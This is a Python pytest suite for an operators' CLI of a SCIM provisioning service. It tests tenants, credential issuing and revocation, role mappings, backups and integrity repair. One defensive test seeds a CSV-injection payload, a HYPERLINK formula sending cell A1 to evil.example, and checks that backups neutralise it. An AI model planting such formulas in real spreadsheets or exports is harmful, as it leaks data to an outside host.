"""The operators' CLI against moto: tenants, credentials, role mappings, backups."""

import base64
import csv
import json
import os
from collections.abc import Iterator
from pathlib import Path

import boto3
import pytest
from chalice.test import Client

from admin.__main__ import main
from admin.target import TargetError, use_stage
from chalicelib import stage_secrets
from chalicelib.config import settings
from chalicelib.store.role_mappings import RoleMapping, RoleMappingTable
from tests.conftest import Scim, dynamodb_client, user_body
from tests.helpers import CORE_GROUP

STAGE = ["--stage", "test"]


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main([*STAGE, *argv])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def issued(out: str) -> dict[str, str]:
    return dict(line.split("=", 1) for line in out.splitlines() if line.startswith("SCIM_"))


def basic(values: dict[str, str]) -> str:
    token = base64.b64encode(f"{values['SCIM_CLIENT_ID']}:{values['SCIM_CLIENT_SECRET']}".encode()).decode()
    return f"Basic {token}"


def test_create_tenant_generate_use_list_and_revoke(chalice_client: Client, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(capsys, "tenant", "create", "initech")[0] == 0
    code, out, err = run(capsys, "credentials", "generate", "initech", "--description", "Okta")
    assert code == 0
    values = issued(out)
    assert "shown once" in err
    assert values["SCIM_BEARER_TOKEN"] == f"{values['SCIM_CLIENT_ID']}.{values['SCIM_CLIENT_SECRET']}"
    assert Scim(chalice_client, basic(values)).get("/Users").status_code == 200

    code, out, err = run(capsys, "credentials", "generate", "initech")
    assert code == 2
    assert "already has an active credential" in err

    code, out, _ = run(capsys, "credentials", "list", "initech")
    assert code == 0
    assert values["SCIM_CLIENT_ID"] in out and "active" in out and "Okta" in out
    assert values["SCIM_CLIENT_SECRET"] not in out

    assert run(capsys, "credentials", "revoke", values["SCIM_CLIENT_ID"])[0] == 0
    assert Scim(chalice_client, basic(values)).get("/Users").status_code == 401
    assert "revoked" in run(capsys, "credentials", "list", "initech")[1]

    code, out, _ = run(capsys, "credentials", "generate", "initech")
    assert code == 0
    assert Scim(chalice_client, basic(issued(out))).get("/Users").status_code == 200


def test_credentials_list_all_shows_every_tenants_active_credential_to_rotate_them(
    aws: None, capsys: pytest.CaptureFixture[str]
) -> None:
    active = {}
    for tenant in ("initech", "acme", "globex"):
        run(capsys, "tenant", "create", tenant)
        first = issued(run(capsys, "credentials", "generate", tenant, "--description", f"{tenant} IdP")[1])
        active[tenant] = first
    run(capsys, "credentials", "revoke", active["globex"]["SCIM_CLIENT_ID"])
    active["globex"] = issued(run(capsys, "credentials", "generate", "globex")[1])
    run(capsys, "tenant", "create", "hooli")  # no credential yet
    code, out, _ = run(capsys, "credentials", "list", "--all")
    assert code == 0
    header, *rows = [line.split("\t") for line in out.splitlines()]
    assert header == ["tenant", "client_id", "created", "last_used", "description"]
    assert [(row[0], row[1]) for row in rows] == [
        (tenant, active[tenant]["SCIM_CLIENT_ID"]) for tenant in ("acme", "globex", "initech")
    ]
    for values in active.values():
        assert values["SCIM_CLIENT_SECRET"] not in out
    code, _, err = run(capsys, "credentials", "list")
    assert code == 2 and "--all" in err
    assert run(capsys, "credentials", "list", "acme", "--all")[0] == 2


def test_generate_without_a_service_account_is_refused(aws: None, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(capsys, "credentials", "generate", "nobody")
    assert code == 2
    assert "no SCIM service account" in err
    assert "SCIM_CLIENT_SECRET" not in out


def test_role_mappings_set_show_import_and_delete(
    aws: None, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert (
        run(
            capsys,
            "roles",
            "set",
            "acme",
            "Finance",
            "--data-access",
            "Payroll,Headcount",
            "--application-access",
            "Dashboards",
        )[0]
        == 0
    )
    csv_file = tmp_path / "mappings.csv"
    csv_file.write_text(
        "customer_supplied_role,data_access_roles,application_access_roles\nLegal,Contracts,Reports;Dashboards\n"
    )
    assert run(capsys, "roles", "import", "acme", str(csv_file))[0] == 0

    out = run(capsys, "roles", "show", "acme")[1]
    assert out.splitlines() == [
        "Finance: data access = Payroll, Headcount; application access = Dashboards",
        "Legal: data access = Contracts; application access = Reports, Dashboards",
    ]
    assert run(capsys, "roles", "show", "acme", "finance")[1].startswith("Finance:")
    assert run(capsys, "roles", "delete", "acme", "Legal")[0] == 0
    assert run(capsys, "roles", "show", "acme", "Legal")[0] == 1
    assert run(capsys, "roles", "delete", "acme", "Legal")[0] == 1


def test_backup_exports_users_with_roles_and_restores_mappings(
    scim: Scim, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    alice = scim.post("/Users", user_body("alice@example.com", externalId="a-1")).json["id"]
    scim.post("/Users", user_body("bob@example.com"))
    scim.post(
        "/Groups",
        {
            "schemas": [CORE_GROUP],
            "displayName": "Finance",
            "members": [{"value": alice}],
        },
    )
    run(capsys, "roles", "set", "acme", "Finance", "--data-access", "Payroll", "--application-access", "Dashboards")

    code = run(capsys, "backup", "export", "acme", "--format", "json", "--output", str(tmp_path / "b.json"))[0]
    assert code == 0
    document = json.loads((tmp_path / "b.json").read_text())
    users = {user["user_name"]: user for user in document["users"]}
    assert users["alice@example.com"]["customer_supplied_roles"] == ["Finance"]
    assert users["alice@example.com"]["data_access_roles"] == ["Payroll"]
    assert users["alice@example.com"]["external_id"] == "a-1"
    assert users["bob@example.com"]["customer_supplied_roles"] == []
    assert document["role_mappings"] == [
        {"customer_supplied_role": "Finance", "data_access_roles": "Payroll", "application_access_roles": "Dashboards"}
    ]

    assert run(capsys, "backup", "export", "acme", "--format", "csv", "--output", str(tmp_path / "csv"))[0] == 0
    with (tmp_path / "csv" / "users.csv").open() as file:
        rows = {row["user_name"]: row for row in csv.DictReader(file)}
    assert rows["alice@example.com"]["application_access_roles"] == "Dashboards"

    run(capsys, "roles", "delete", "acme", "Finance")
    assert run(capsys, "backup", "restore-roles", "acme", str(tmp_path / "b.json"))[0] == 0
    assert run(capsys, "roles", "show", "acme", "Finance")[1].startswith("Finance: data access = Payroll")
    run(capsys, "roles", "delete", "acme", "Finance")
    assert run(capsys, "backup", "restore-roles", "acme", str(tmp_path / "csv"))[0] == 0
    assert run(capsys, "roles", "show", "acme", "Finance")[0] == 0


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_backup_never_holds_a_formula_and_restores_the_same_names(
    scim: Scim, tmp_path: Path, capsys: pytest.CaptureFixture[str], start: str
) -> None:
    # An IdP's userName or externalId starting with "=" became a spreadsheet formula (CSV injection).
    formula = f'{start}HYPERLINK("https://evil.example/?"&A1)'
    scim.post("/Users", user_body("carol@example.com", externalId=formula))
    mappings = RoleMappingTable(dynamodb_client(), settings().role_mappings_table, "acme")
    mappings.put(RoleMapping(f"{start}Finance", (f"{start}Payroll",), ()))

    assert run(capsys, "backup", "export", "acme", "--format", "csv", "--output", str(tmp_path / "csv"))[0] == 0

    for name in ("users.csv", "role_mappings.csv"):
        with (tmp_path / "csv" / name).open(newline="") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
    with (tmp_path / "csv" / "users.csv").open(newline="") as file:
        assert next(csv.DictReader(file))["external_id"] == "'" + formula
    mappings.delete(f"{start}Finance")
    assert run(capsys, "backup", "restore-roles", "acme", str(tmp_path / "csv"))[0] == 0
    restored = f"{start}Finance".strip()  # a restore trims names, a leading tab or CR too
    assert mappings.get(restored) == RoleMapping(restored, (f"{start}Payroll".strip(),), ())


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_backup_files_are_readable_by_their_owner_only(
    scim: Scim, tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str
) -> None:
    output = tmp_path / f"backup.{fmt}"
    if fmt == "json":
        output.write_text("an older backup, world-readable")
        output.chmod(0o644)

    assert run(capsys, "backup", "export", "acme", "--format", fmt, "--output", str(output))[0] == 0

    files = [output] if fmt == "json" else [output / "users.csv", output / "role_mappings.csv"]
    assert [oct(path.stat().st_mode & 0o777) for path in files] == [oct(0o600)] * len(files)


def test_without_a_running_make_run_the_cli_says_what_to_do(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("SCIM_LOCAL_STORE_FILE", str(tmp_path / "absent.json"))
    assert main(["roles", "show", "acme"]) == 2
    assert "start `make run` first" in capsys.readouterr().err


def test_check_reports_and_repair_fixes_leftovers_and_stale_member_displays(
    scim: Scim, capsys: pytest.CaptureFixture[str]
) -> None:
    user = scim.post("/Users", user_body("a@example.com")).json["id"]
    group = {"schemas": [CORE_GROUP], "displayName": "Sales", "members": []}
    group_id = scim.post("/Groups", {**group, "members": [{"value": user}]}).json["id"]
    table = f"{settings().groups_table}"
    client = dynamodb_client()
    # What an interrupted group delete leaves, and what a rename interrupted before its groups leaves.
    client.put_item(
        TableName=table,
        Item={
            "pk": {"S": "acme"},
            "sk": {"S": f"member#gone#{user}"},
            "group_id": {"S": "gone"},
            "user_id": {"S": user},
            "member_key": {"S": f"acme#{user}"},
        },
    )
    client.update_item(
        TableName=table,
        Key={"pk": {"S": "acme"}, "sk": {"S": f"member#{group_id}#{user}"}},
        UpdateExpression="SET display = :d",
        ExpressionAttributeValues={":d": {"S": "old@example.com"}},
    )
    assert scim.get(f"/Groups/{group_id}").json["members"][0]["display"] == "old@example.com"

    code, out, _ = run(capsys, "check", "acme")
    assert code == 0
    assert "1 users, 1 groups, 2 memberships checked" in out
    assert "1 memberships of deleted groups" in out
    assert "1 memberships whose members.display is not the user's current userName" in out

    code, out, _ = run(capsys, "check", "acme", "--repair")
    assert "Repaired 2 memberships (1 deleted, 1 renamed)" in out

    code, out, _ = run(capsys, "check", "acme")
    assert (code, out.strip()) == (0, "1 users, 1 groups, 1 memberships checked")
    assert scim.get(f"/Groups/{group_id}").json["members"][0]["display"] == "a@example.com"


def test_repair_files_memberships_written_before_the_user_name_index(
    scim: Scim, capsys: pytest.CaptureFixture[str]
) -> None:
    # Given a membership written before memberships carried their member's userName key
    user = scim.post("/Users", user_body("a@example.com")).json["id"]
    group = {"schemas": [CORE_GROUP], "displayName": "Sales"}
    group_id = scim.post("/Groups", {**group, "members": [{"value": user}]}).json["id"]
    key = {"pk": {"S": "acme"}, "sk": {"S": f"member#{group_id}#{user}"}}
    client = dynamodb_client()
    client.update_item(
        TableName=settings().groups_table, Key=key, UpdateExpression="REMOVE member_name_key, user_name_key"
    )

    _, out, _ = run(capsys, "check", "acme", "--repair")

    assert "Repaired 1 memberships (0 deleted, 1 renamed)" in out
    item = client.get_item(TableName=settings().groups_table, Key=key)["Item"]
    assert item["member_name_key"]["S"] == "acme#a@example.com"
    assert run(capsys, "check", "acme")[1].strip() == "1 users, 1 groups, 1 memberships checked"


def test_check_fails_on_a_broken_invariant(scim: Scim, capsys: pytest.CaptureFixture[str]) -> None:
    scim.post("/Users", user_body("a@example.com"))
    dynamodb_client().delete_item(
        TableName=settings().users_table, Key={"pk": {"S": "acme"}, "sk": {"S": "userName#a@example.com"}}
    )

    code, out, _ = run(capsys, "check", "acme")

    assert code == 1
    assert "VIOLATION: user " in out and "does not own the claim of its userName key 'a@example.com'" in out


@pytest.fixture
def saved_environment() -> Iterator[None]:
    saved = dict(os.environ)
    yield
    os.environ.clear()
    os.environ.update(saved)


def test_a_deployed_stage_hashes_with_its_own_key_from_secrets_manager(
    aws: None, saved_environment: None, capsys: pytest.CaptureFixture[str]
) -> None:
    stage_secrets.reset()
    with pytest.raises(TargetError, match="scim-dev/credential-hash-key"):
        use_stage("dev")

    boto3.client("secretsmanager").create_secret(Name="scim-dev/credential-hash-key", SecretString="stage-key")
    assert use_stage("dev") == "stage 'dev' on AWS"

    assert settings().credential_hash_key == b"stage-key"
    assert os.environ["TABLE_PREFIX"] == "scim-dev"
    assert "SCIM_DEV_SECRETS" not in os.environ
    stage_secrets.reset()


def test_a_stage_without_deployment_keeps_the_dev_key(aws: None, saved_environment: None) -> None:
    use_stage("test")
    assert settings().credential_hash_key == stage_secrets.DEV_DEFAULTS[stage_secrets.CREDENTIAL_HASH_KEY].encode()


def test_tenant_create_on_an_existing_tenant_changes_nothing_and_says_so(
    chalice_client: Client, capsys: pytest.CaptureFixture[str]
) -> None:
    """Re-running tenant create replaced the service account: the active credential got 401 while
    'credentials list' still said active, and generate refused."""
    assert run(capsys, "tenant", "create", "tenantb")[0] == 0
    values = issued(run(capsys, "credentials", "generate", "tenantb")[1])

    code, _, err = run(capsys, "tenant", "create", "tenantb")

    assert code == 2
    assert "already has a SCIM service account" in err and "nothing was changed" in err
    assert Scim(chalice_client, basic(values)).get("/Users").status_code == 200


@pytest.mark.parametrize("name", ["", "demo#x", "Acme", "_x", "a" * 64, "acme eu"])
def test_a_tenant_name_outside_the_documented_pattern_is_refused(
    aws: None, capsys: pytest.CaptureFixture[str], name: str
) -> None:
    code, _, err = run(capsys, "tenant", "create", name)

    assert code == 2
    assert "is not a tenant name" in err and "lowercase letters, digits" in err
    assert run(capsys, "credentials", "generate", name)[0] == 2
